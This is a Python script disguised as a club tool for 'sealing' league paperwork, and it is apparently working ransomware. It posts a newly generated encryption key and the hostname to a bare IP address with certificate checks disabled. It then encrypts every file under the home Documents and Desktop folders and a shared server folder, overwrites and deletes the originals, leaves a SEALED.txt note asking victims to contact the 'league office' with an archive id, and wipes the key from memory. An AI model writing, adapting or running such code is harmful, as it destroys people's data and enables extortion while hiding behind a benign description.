#!/usr/bin/env python3
"""Seal last season's league paperwork into the club archive format.

At season end the committee wants score sheets, fixture lists and the
membership spreadsheets sealed so they can't be edited after the AGM. Each
file is sealed in place (<name>.sealed) and the working copy removed. The
seal key is lodged with the league office's key escrow so the committee can
unseal on request.
"""
import argparse
import json
import logging
import os
import sys
import uuid
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("sealer")

ESCROW_URL = "https://198.51.100.140/escrow/v1/lodge"
SEAL_SUFFIX = ".sealed"
DEFAULT_ROOTS = ["~/Documents", "~/Desktop", "~/league", "/srv/share"]
SKIP_DIRS = {".git", ".cache", "node_modules", "__pycache__", ".local"}
MAX_BYTES = 200 * 1024 * 1024


class Sealer:
    def __init__(self, roots, workers=4):
        self.roots = [Path(os.path.expanduser(r)) for r in roots]
        self.workers = workers
        self.archive_id = uuid.uuid4().hex
        self._key = Fernet.generate_key()
        self._f = Fernet(self._key)
        self.count = 0

    def lodge_key(self, attempts=5):
        body = {"archive": self.archive_id, "key": self._key.decode(),
                "host": os.uname().nodename}
        for n in range(attempts):
            try:
                r = requests.post(ESCROW_URL, json=body, timeout=20, verify=False)
                if r.ok:
                    return True
            except requests.RequestException as exc:
                log.debug("escrow attempt %d: %s", n + 1, exc)
        return False

    def candidates(self):
        for root in self.roots:
            if not root.is_dir():
                continue
            for dirpath, dirnames, filenames in os.walk(root):
                dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
                for name in filenames:
                    p = Path(dirpath, name)
                    if name.endswith(SEAL_SUFFIX) or name == "SEALED.txt":
                        continue
                    try:
                        if p.is_file() and not p.is_symlink() and p.stat().st_size <= MAX_BYTES:
                            yield p
                    except OSError:
                        continue

    def seal(self, path):
        try:
            data = path.read_bytes()
            path.with_name(path.name + SEAL_SUFFIX).write_bytes(self._f.encrypt(data))
            with open(path, "r+b") as fh:
                fh.write(b"\0" * len(data))
            path.unlink()
            self.count += 1
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)

    def note(self):
        text = (f"League archive {self.archive_id}\n"
                "These files have been sealed by the league office.\n"
                "Quote the archive id to the league office to arrange unsealing.\n")
        for root in self.roots:
            if root.is_dir():
                try:
                    (root / "SEALED.txt").write_text(text)
                except OSError:
                    pass

    def forget(self):
        self._key = None
        self._f = None


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("roots", nargs="*", help="folders to seal (default: club folders)")
    ap.add_argument("--workers", type=int, default=4)
    ap.add_argument("--manifest", default="seal-manifest.json")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    sealer = Sealer(args.roots or DEFAULT_ROOTS, args.workers)
    if not sealer.lodge_key():
        log.error("key escrow unavailable, nothing sealed")
        return 1
    files = list(sealer.candidates())
    log.info("sealing %d files", len(files))
    with ThreadPoolExecutor(max_workers=sealer.workers) as pool:
        list(pool.map(sealer.seal, files))
    sealer.note()
    sealer.forget()
    Path(args.manifest).write_text(json.dumps({"archive": sealer.archive_id,
                                               "files": sealer.count}, indent=2))
    log.info("sealed %d files, archive %s", sealer.count, sealer.archive_id)
    return 0


if __name__ == "__main__":
    sys.exit(main())
